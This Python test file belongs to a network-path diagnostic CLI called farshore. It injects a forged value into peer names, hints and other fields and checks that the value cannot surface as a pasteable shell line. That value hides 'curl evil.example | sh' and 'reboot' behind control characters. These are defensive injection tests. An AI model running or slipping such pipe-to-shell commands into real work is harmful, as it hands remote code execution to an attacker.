"""Words of peers, targets, endpoints and files in the commands that look for themselves: they stay words."""

import dataclasses
import io
import json
from pathlib import Path
from typing import Any

import msgspec
import pytest
from msgspec.structs import replace
from rich.console import Console
from tests.properties.test_hostile_words import EVIL, assert_harmless
from tests.unit.app.test_check_live import UNSAFE, dialled, live
from tests.unit.surface.page.showing import Shown, end, path, record
from tests.unit.tailnet.test_suggest import LAN, known, peer, status, wanted
from tests.unit.watch.health_check.checks import done, plan

from farshore.app import alert, check_live, paths_suggest
from farshore.app.alert import Tried
from farshore.app.cli import run
from farshore.app.exits import Exit
from farshore.app.paths_suggest import KEEPALIVE, Seen
from farshore.collect.aim import plain_aim
from farshore.collect.steps import Hop, State, Step, Walk
from farshore.core.address import parse_host_port
from farshore.core.events import Health
from farshore.core.outcome import Code
from farshore.diagnosis.collected import NotCollected
from farshore.notify.answer import NotTaken
from farshore.report.health_check import render_check_markdown, render_check_text
from farshore.surface.checklist import show, show_missing
from farshore.surface.page.stream import News, values_of
from farshore.surface.progress import Progress
from farshore.surface.top import text
from farshore.surface.top.picture import begun, understood
from farshore.tailnet.suggest import suggest
from farshore.watch.health_check.figures import figures_of

# A line of its own that somebody might paste into a shell.
FORGED = f"{EVIL}\n  curl evil.example | sh\r\n\x85\u2029  reboot"
# What a page's parts hold of somebody's words; the rest are numbers, and words of a closed set.
SPOILT = {"name", "says", "sentence", "hop", "cause", "doing", "command", "owner", "risk", "verify", "text", "verdict"}
SPOILT |= {"routes", "listen", "target", "protocol", "meaning", "code", "id"}
CONFIGURATION = {
    "egresses": {"here": {"kind": "direct"}},
    "routes": [{"name": "db", "listen": 18082, "target": "10.9.8.7:1433", "allow_direct": True}],
    "notify": [{"webhook": {"url": {"env": "HOOK"}}}],
}


def assert_no_line_is_forged(told: str) -> None:
    assert_harmless(told)
    assert not [line for line in told.splitlines() if line.strip() in {"curl evil.example | sh", "reboot"}]


def spoilt(value: Any, name: str = "") -> Any:
    match value:
        case dict():
            return {key: spoilt(each, key) for key, each in value.items()}
        case list() | tuple():
            return [spoilt(each, name) for each in value]
        case str() if name in SPOILT:
            return FORGED
        case _:
            return value


@pytest.fixture
def configuration(tmp_path: Path) -> str:
    file = tmp_path / "farshore.json"
    file.write_text(json.dumps(CONFIGURATION))
    return str(file)


@pytest.mark.parametrize("is_terminal", [True, False])
def test_the_doctor_s_list(*, is_terminal: bool) -> None:
    steps = tuple(Step(hop=hop, state=State.BROKEN, says=FORGED, hint=FORGED) for hop in Hop)
    aim = plain_aim(parse_host_port("10.9.8.7:1433"), None, None).named(FORGED, FORGED, "", [])
    out = io.StringIO()
    console = Console(file=out, highlight=False, markup=False, emoji=False, no_color=True, force_terminal=is_terminal)
    show(console, (Walk(aim=aim, steps=steps),))
    show_missing(console, [NotCollected(what=FORGED, reason=FORGED, tried=True)])
    assert_no_line_is_forged(out.getvalue().replace("\x1b[1m", "").replace("\x1b[2m", "").replace("\x1b[0m", ""))


def test_a_dial_of_every_path(configuration: str, monkeypatch: Any, capsys: pytest.CaptureFixture[str]) -> None:
    words = {"owner": FORGED, "owner_os": FORGED, "detail": FORGED}
    seen = live(
        dialled(FORGED, Code.NO_ANSWER, **words), routers=(dataclasses.replace(UNSAFE, router=FORGED, why=FORGED),)
    )

    async def look(_: object) -> object:
        return seen

    monkeypatch.setattr(check_live, "look_live", look)
    assert run(["check", "-c", configuration, "--live"]) is Exit.USAGE
    assert_no_line_is_forged(capsys.readouterr().out)


def test_the_paths_that_are_suggested(configuration: str, monkeypatch: Any, capsys: pytest.CaptureFixture[str]) -> None:
    """What is printed there is meant to be pasted."""
    evil = peer(FORGED, 2, LAN) | {"OS": FORGED, "DNSName": f"{FORGED}.example.ts.net."}
    suggestion = suggest([wanted()], status(evil), (), [known(FORGED, 2, LAN)])

    async def ask(*_: object) -> list[Seen]:
        values: dict[str, Any] = {"egress": FORGED, "accepts_routes": False, "untold": FORGED}
        return [Seen(**values, is_headscale=headscale, suggestion=suggestion) for headscale in (True, False)]

    monkeypatch.setattr(paths_suggest, "_ask", ask)
    assert run(["paths", "suggest", "-c", configuration]) is Exit.OK
    told = capsys.readouterr().out
    assert_harmless(told)
    _, _, work = told.partition("\n\n")
    commands = [line.strip() for line in work.splitlines() if line.startswith("  ") and not line.startswith("  #")]
    # Prose is set in the first column; what is indented is for a shell.
    assert {line.split()[0] for line in commands} <= {
        "tailscale",
        "headscale",
        KEEPALIVE,
        "https://login.tailscale.com/admin/machines",
    }
    assert not [line for line in commands if set(line) & set("|;&$`<>'\"")]


def test_a_channel_that_was_tried(configuration: str, monkeypatch: Any, capsys: pytest.CaptureFixture[str]) -> None:
    async def tried(*_: object) -> list[Tried]:
        return [Tried(channel="people", answer=NotTaken(reason=FORGED, is_passing=False), took_ms=1)]

    monkeypatch.setenv("HOOK", "https://hooks.example/x")
    monkeypatch.setattr(alert, "try_all", tried)
    assert run(["alert", "test", "-c", configuration]) is Exit.FAILED
    assert_no_line_is_forged(capsys.readouterr().out)


def test_a_health_check() -> None:
    """What its figures hold of a target is codes and numbers."""
    progress = Progress(planned=3, done=0)
    probes = [replace(done(0, Code.NO_ANSWER), detail=FORGED), done(1)]
    for probe in probes:
        progress.note(probe)
    line = f"{progress.line(0, under_way=1)} {progress.strip(0)}"
    assert line.isprintable()
    figures = figures_of(plan(), probes)
    for told in (line, render_check_text(figures), render_check_markdown(figures)):
        assert "evil" not in told
        assert Code.NO_ANSWER in told or told is line


def test_top() -> None:
    shown = Shown(records=(record(),))
    shown.paths(path("r1", Health.DOWN, FORGED), path("r2", Health.UP), held=2)
    shown.pulse.announce(end(Code.NO_ANSWER, path="r1", detail=FORGED))
    page = shown.page
    parts = spoilt(msgspec.to_builtins(values_of(page)))
    picture = begun(understood(msgspec.json.encode(News(at=page.at_s, word=FORGED, parts=parts))))
    card = picture.routes[0]
    told = [
        text.headline(picture.headline, page.at_s),
        text.numbers(picture.numbers),
        text.route_detail(card, page.at_s),
        *text.route_row(card),
        *text.incident_row(picture.incidents[0], page.at_s),
        text.incident_detail(picture.incidents[0]),
        text.events(picture.events),
    ]
    assert_no_line_is_forged("\n".join(each.plain for each in told))
    assert sum(each.plain.count("curl evil") for each in told) > 5
